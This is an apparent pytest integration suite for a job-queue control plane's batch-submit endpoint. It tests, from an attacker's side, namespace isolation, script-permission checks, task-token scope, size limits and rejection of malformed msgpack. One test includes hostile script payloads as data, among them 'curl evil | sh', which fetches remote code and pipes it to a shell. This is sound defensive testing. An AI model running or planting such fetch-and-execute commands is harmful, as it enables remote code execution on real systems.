"""``POST /v1/producer/submit-batch`` from the attacker's side: a batch is checked item by item
exactly as the single submit is, so hiding an item among good ones gains nothing.

The control plane is the in-process one of ``tests/integration`` over SQLite (a blob directory
as its payload store, so the inline threshold applies); the victim is team A (a producer bound to
``team-a``), the attackers a producer of ``team-b``, a producer of team A without ``may_script``,
daemon and metrics tokens, and a task token whose invocation belongs to team A.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgpack
import pytest

from dreamlake.lakeshore.ids import new_ulid
from dreamlake.lakeshore.server.config import ServerConfig
from dreamlake.lakeshore.store.api import SubmitRequest
from tests.integration.conftest import ControlPlane, local_blobs, running_control_plane, submit_body

BATCH = "/v1/producer/submit-batch"
KiB = 1024


@dataclass
class World:
    cp: ControlPlane
    team_a: str
    team_b: str
    no_script: str
    metrics: str

    def batch(self, items: list[Any], token: str, **extra: Any) -> tuple[int, Any]:
        return self.cp.call(BATCH, {"submits": items, **extra}, token)

    def stored(self, inv: str) -> Any:
        return self.cp.store.get(inv)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    root = tmp_path_factory.mktemp("batch-attacks")
    config = ServerConfig(lease_s=3600.0, max_body_bytes=4 * 1024 * KiB)
    with running_control_plane(str(root / "a.db"), config=config, payloads=local_blobs(root / "blobs")) as cp:
        store = cp.store
        yield World(
            cp,
            team_a=store.create_token("producer", "team-a", "team-a", may_script=True),
            team_b=store.create_token("producer", "team-b", "team-b"),
            no_script=store.create_token("producer", "team-a-plain", "team-a"),
            metrics=store.create_token("metrics", "scraper"),
        )


def test_items_land_in_the_callers_namespace_whatever_they_say(world: World) -> None:
    victim = new_ulid()
    assert world.cp.call("/v1/producer/submit", submit_body(victim, "q"), world.team_a)[0] == 200
    mine = new_ulid()
    items = [
        {**submit_body(mine, "q"), "namespace": "team-a"},  # not a field a producer sets
        submit_body(victim, "q"),  # team A's id, the same content otherwise
    ]
    status, out = world.batch(items, world.team_b, common={"namespace": "team-a"})
    assert status == 200
    assert out["results"][0] == {"invocation_id": mine, "queue": "q"}
    assert world.stored(mine).namespace == "team-b"
    refused = out["results"][1]
    assert refused["status"] == 409 and "already exists with different content" in refused["error"]
    assert world.stored(victim).namespace == "team-a"  # the victim's invocation is untouched
    # and team B reaches nothing of team A's through the answers it got
    status, _ = world.cp.call("/v1/producer/await", {"invocation_id": victim, "timeout_s": 0}, world.team_b)
    assert status == 404


def test_a_script_hidden_among_functions_is_refused_alone(world: World) -> None:
    good, script = new_ulid(), new_ulid()
    items = [submit_body(good, "s"), submit_body(script, "s", run_config={"script": "id > owned.txt"})]
    status, out = world.batch(items, world.no_script)
    assert status == 200
    assert out["results"][0] == {"invocation_id": good, "queue": "s"}
    assert out["results"][1]["status"] == 403
    assert out["results"][1]["error"].startswith(
        "token 'team-a-plain' may not submit script invocations (its may_script flag is off)"
    )
    assert world.stored(script) is None
    # a script in the fields every item shares is refused for every item
    ids = [new_ulid(), new_ulid()]
    common = {"run_config": {"script": "curl evil | sh"}}
    status, out = world.batch([submit_body(i, "s", run_config=None) | common for i in ids], world.no_script)
    assert status == 200 and [r["status"] for r in out["results"]] == [403, 403]
    assert all(world.stored(i) is None for i in ids)


@pytest.mark.parametrize("who", ["daemon", "metrics", "none", "forged"])
def test_tokens_that_may_not_submit_store_nothing(world: World, who: str) -> None:
    token = {
        "daemon": world.cp.daemon_token,
        "metrics": world.metrics,
        "none": None,
        "forged": "lst_AAAA.BBBB",
    }[who]
    inv = new_ulid()
    status, out = world.batch([submit_body(inv, "x")], token)  # type: ignore[arg-type]
    assert status == (403 if who in ("daemon", "metrics") else 401), out
    assert out["error"]
    assert world.stored(inv) is None


def test_a_task_submits_children_of_its_own_invocation_only(world: World) -> None:
    cp = world.cp
    parent, queue = new_ulid(), f"t{new_ulid()[-6:]}"
    fn = {"module": "m", "qualname": "f"}
    cp.store.submit(SubmitRequest(parent, queue, fn, b"\x90", {}, namespace="team-a"))
    body = {"worker_id": new_ulid(), "queues": [queue], "timeout_s": 0, "kinds": ["run"]}
    status, out = cp.call("/v1/daemon/poll", body, cp.daemon_token)
    assert status == 200, out
    run = out["commands"][0]["body"]
    task = run["task_token"]
    other = world.stored(world.cp.submit("elsewhere")).invocation_id  # not the task's
    child, stray, sneaky = new_ulid(), new_ulid(), new_ulid()
    items = [
        submit_body(child, "kids"),
        submit_body(stray, "kids", parent_invocation_id=other),
        submit_body(sneaky, "kids"),
    ]
    status, out = world.batch(items, task, common={"parent_invocation_id": other})
    assert status == 200
    # the item without a parent of its own takes the common one: another invocation's, refused
    assert [r.get("status") for r in out["results"]] == [403, 403, 403]
    assert all(f"children of its own invocation {parent} only" in r["error"] for r in out["results"])
    assert all(world.stored(i) is None for i in (child, stray, sneaky))
    status, out = world.batch([submit_body(child, "kids")], task)
    assert status == 200 and out["results"] == [{"invocation_id": child, "queue": "kids"}]
    row = world.stored(child)
    assert (row.parent_invocation_id, row.namespace) == (parent, "team-a")
    # once the attempt ended the token submits nothing more
    ack = {
        "invocation_id": parent,
        "state": "succeeded",
        "result_blob": b"",
        "worker_id": body["worker_id"],
        "attempt": run["attempt"],
    }
    assert cp.call("/v1/daemon/ack", ack, cp.daemon_token)[0] == 200
    late = new_ulid()
    status, out = world.batch([submit_body(late, "kids")], task)
    assert status == 401 and "valid only while its invocation runs" in out["error"]
    assert world.stored(late) is None


def test_an_item_over_the_inline_threshold_is_refused_alone(world: World) -> None:
    small, big = new_ulid(), new_ulid()
    items = [submit_body(small, "big"), submit_body(big, "big", args_blob=b"x" * (300 * KiB))]
    status, out = world.batch(items, world.team_a)
    assert status == 200
    assert out["results"][0] == {"invocation_id": small, "queue": "big"}
    refused = out["results"][1]
    assert refused["status"] == 413 and refused["inline_threshold_bytes"] == 256 * KiB
    assert "args_ref" in refused["error"]
    assert world.stored(big) is None


def test_oversized_and_hostile_batches_are_refused_before_anything_is_stored(world: World) -> None:
    ids = [new_ulid() for _ in range(1001)]
    status, out = world.batch([submit_body(i, "cap") for i in ids], world.team_a)
    assert status == 413 and "over the limit of 1000 per request" in out["error"]
    assert all(world.stored(i) is None for i in ids[:5] + ids[-5:])
    # past the body limit: refused from Content-Length
    many = [submit_body(new_ulid(), "cap", args_blob=b"y" * (200 * KiB)) for _ in range(30)]
    status, out = world.batch(many, world.team_a)
    assert status == 413 and "LAKESHORE_MAX_BODY_BYTES" in out["error"]
    # an array past the decoder's container bound, and garbage
    header = b"\x81\xa7submits\xdd" + (100_001).to_bytes(4, "big")
    status, out = world.cp.call(BATCH, None, world.team_a, raw=header + b"\xc0" * 100_001)
    assert status == 400 and "not valid msgpack" in out["error"]
    status, out = world.cp.call(BATCH, None, world.team_a, raw=msgpack.packb({"submits": "x"}))
    assert (status, out["error"]) == (400, "field 'submits' must be list, got str")


def test_the_answer_discloses_nothing_of_other_namespaces(world: World, tmp_path: Path) -> None:
    """An id team A used answers team B's batch with the single submit's 409, never team A's
    queue, state or content."""
    victim = new_ulid()
    world.cp.call("/v1/producer/submit", submit_body(victim, "secret-queue"), world.team_a)
    status, out = world.batch([submit_body(victim, "probe")], world.team_b)
    assert status == 200
    (answer,) = out["results"]
    assert set(answer) == {"error", "status", "invocation_id"}
    assert "secret-queue" not in repr(out)
